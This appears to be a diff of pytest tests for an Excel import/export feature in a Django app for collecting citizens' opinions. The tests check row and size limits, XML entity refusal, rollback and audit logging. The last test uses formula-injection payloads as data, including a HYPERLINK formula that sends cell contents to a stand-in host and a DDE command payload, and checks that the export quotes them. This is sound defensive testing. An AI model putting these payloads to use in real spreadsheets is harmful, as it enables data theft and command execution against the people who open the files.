@@ -7,6 +7,7 @@ from openpyxl import Workbook, load_workbook
 
 from opinions import excel, services
 from opinions.models import ImportJob, Opinion, OpinionSlip
+from opinions.tests.factories import make_slip
 
 pytestmark = pytest.mark.django_db
 
@@ -203,3 +204,139 @@ def test_export_has_opinions_and_petitions(client, plan, front, villages):
     rows = list(book["Y kien"].values)
     assert rows[1][2] == "Hoàng Thị Mai" and rows[1][7] == "Đề nghị lắp đèn đường"
     assert list(book["Kien nghi"].values)[0][1] == "Kiến nghị tổng hợp"
+
+
+def _import(plan, front, content) -> ImportJob:
+    """An uploaded workbook run through the import as the worker runs it."""
+    from django.core.files.base import ContentFile  # noqa: PLC0415
+
+    from opinions import imports  # noqa: PLC0415
+
+    job = ImportJob.objects.create(
+        plan=plan,
+        file=ContentFile(content, name="phieu.xlsx"),
+        filename="phieu.xlsx",
+        created_by=front,
+    )
+    return imports.run(job)
+
+
+def test_reading_stops_at_the_row_limit_and_says_so(plan, front, villages, monkeypatch):
+    monkeypatch.setattr(excel, "MAX_ROWS", 20)
+    rows = [_row(n, villages[0]) for n in range(1, 101)]
+
+    job = _import(plan, front, excel.workbook_from_rows(rows))
+
+    assert job.status == "failed"
+    assert job.errors == [
+        "Tệp có hơn 20 dòng dữ liệu: đã dừng đọc ở dòng 22. Hãy chia thành nhiều tệp nhỏ hơn."
+    ]
+    assert not OpinionSlip.objects.exists()
+
+
+def test_a_workbook_that_unpacks_past_the_cap_is_refused_unread(plan, front, villages, monkeypatch):
+    monkeypatch.setattr(excel, "MAX_UNPACKED_BYTES", 20_000)
+    rows = [_row(n, villages[0], text="Đề nghị " * 40) for n in range(1, 101)]
+
+    job = _import(plan, front, excel.workbook_from_rows(rows))
+
+    assert job.status == "failed"
+    assert job.errors[0].startswith("Tệp Excel quá lớn khi giải nén")
+    assert "mỗi tệp không quá 20.000 dòng" in job.errors[0]
+
+
+def test_xml_entities_in_a_workbook_are_refused_not_expanded(plan, front, villages):
+    import zipfile  # noqa: PLC0415
+
+    good = excel.workbook_from_rows([_row(1, villages[0])])
+    source, target = BytesIO(good), BytesIO()
+    with zipfile.ZipFile(source) as archive, zipfile.ZipFile(target, "w") as rewritten:
+        for item in archive.infolist():
+            data = archive.read(item)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                # The first header cell through an entity: expanded, the file would import.
+                header = "Số phiếu".encode()
+                data = data.replace(header, b"&h;", 1).replace(
+                    b"<worksheet",
+                    b'<!DOCTYPE worksheet [<!ENTITY h "' + header + b'">]><worksheet',
+                    1,
+                )
+            rewritten.writestr(item, data)
+
+    job = _import(plan, front, target.getvalue())
+
+    assert job.status == "failed"
+    assert not OpinionSlip.objects.exists()
+
+
+def test_a_slip_typed_while_the_file_is_checked_fails_the_import_with_the_reason(
+    plan, front, villages, monkeypatch
+):
+    real_parse = excel.parse
+
+    def parse_while_someone_types_slip_2(*args, **kwargs):
+        checked = real_parse(*args, **kwargs)
+        make_slip(plan, 2, by=front)
+        return checked
+
+    monkeypatch.setattr(excel, "parse", parse_while_someone_types_slip_2)
+    rows = [_row(1, villages[0]), _row(2, villages[0]), _row(3, villages[0])]
+
+    job = _import(plan, front, excel.workbook_from_rows(rows))
+
+    assert job.status == "failed"
+    assert "đã được nhập ở nơi khác" in job.errors[0]
+    assert list(OpinionSlip.objects.values_list("serial", flat=True)) == [2]
+
+
+def test_an_import_that_dies_while_saving_leaves_nothing_written(
+    plan, front, villages, monkeypatch
+):
+    from kesat_dialogue import audit  # noqa: PLC0415
+
+    def power_cut(*args, **kwargs):
+        raise RuntimeError("mất điện giữa chừng")
+
+    monkeypatch.setattr(audit, "record_many", power_cut)
+    rows = [_row(1, villages[0]), _row(2, villages[1])]
+
+    job = _import(plan, front, excel.workbook_from_rows(rows))
+
+    assert job.status == "failed" and "chưa phiếu nào trong tệp được lưu" in job.errors[0]
+    assert not OpinionSlip.objects.exists() and not Opinion.objects.exists()
+
+
+def test_imported_slips_get_the_audit_entries_of_typed_ones(plan, front, villages):
+    from kesat_dialogue.models import AuditEntry  # noqa: PLC0415
+
+    rows = [_row(1, villages[0]), _row(1, villages[0], "Hỏi về trợ cấp")]
+
+    _import(plan, front, excel.workbook_from_rows(rows))
+
+    slip = OpinionSlip.objects.get()
+    entries = AuditEntry.objects.filter(action="created", user=front)
+    slip_entry = entries.get(object_id=str(slip.pk), content_type__model="opinionslip")
+    assert slip_entry.changes["serial"] == [None, 1]
+    assert entries.filter(content_type__model="opinion").count() == 2
+
+
+def test_typed_text_that_looks_like_a_formula_is_exported_as_text(client, plan, front, villages):
+    hostile = [
+        '=HYPERLINK("http://x.example/?d="&B2,"Xem")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+    ]
+    make_slip(plan, 4, hostile, name="=CMD|' /C calc'!A0")
+    client.force_login(front)
+
+    response = client.get(reverse("opinions:export", args=[plan.public_id]))
+
+    sheet = load_workbook(BytesIO(response.content))["Y kien"]
+    cells = [row[7] for row in sheet.iter_rows(min_row=2)] + [sheet["C2"]]
+    assert all(cell.data_type == "s" for cell in cells)
+    # XML stores a carriage return as a line feed; the leading quote is what matters.
+    expected = ["'" + text.replace("\r", "\n") for text in [*hostile, "=CMD|' /C calc'!A0"]]
+    assert [cell.value for cell in cells] == expected
